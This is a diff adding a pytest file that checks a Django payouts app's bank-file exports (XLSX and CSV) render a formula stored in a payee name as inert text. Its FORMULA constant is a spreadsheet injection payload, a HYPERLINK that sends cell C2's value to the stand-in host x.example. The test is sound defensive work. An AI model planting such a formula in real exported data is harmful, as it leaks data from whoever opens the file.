@@ -1,0 +1,47 @@
+"""The bank file never carries a live formula: a payee name stored before names were checked stays text."""
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from huzhu.conftest import PASSWORD
+from huzhu.core.scopes import PROVINCE
+from huzhu.members.models import Worker
+from huzhu.payouts import services
+
+from .conftest import everything
+
+FORMULA = '=HYPERLINK("http://x.example/?"&C2,"点我")'
+
+
+@pytest.fixture
+def batch_with_a_formula_name(approve_claim, maker, checker):
+    claim = approve_claim()
+    Worker.objects.filter(pk=claim.worker_id).update(name=FORMULA)  # as stored before the name check existed
+    batch = services.build_batch(actor=maker, scope=PROVINCE, filters=everything())
+    services.approve_batch(actor=checker, batch=batch)
+    return batch
+
+
+def download(client, maker, batch, file_format) -> bytes:
+    assert client.login(username=maker.username, password=PASSWORD)
+    response = client.get(reverse("payouts:bank_file", args=[batch.pk, file_format]))
+    assert response.status_code == 200
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_a_formula_name_in_the_bank_xlsx_is_a_string_cell_not_a_formula(client, maker, batch_with_a_formula_name):
+    sheet = openpyxl.load_workbook(io.BytesIO(download(client, maker, batch_with_a_formula_name, "xlsx"))).active
+    name = sheet["B2"]
+    assert (name.value, name.data_type) == (FORMULA, "s")
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet["E2"].data_type == "s" and not sheet["E2"].value.startswith("'")  # the amount column as before
+
+
+def test_a_formula_name_in_the_bank_csv_is_quoted_as_text(client, maker, batch_with_a_formula_name):
+    text = download(client, maker, batch_with_a_formula_name, "csv").decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert row[1] == "'" + FORMULA
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
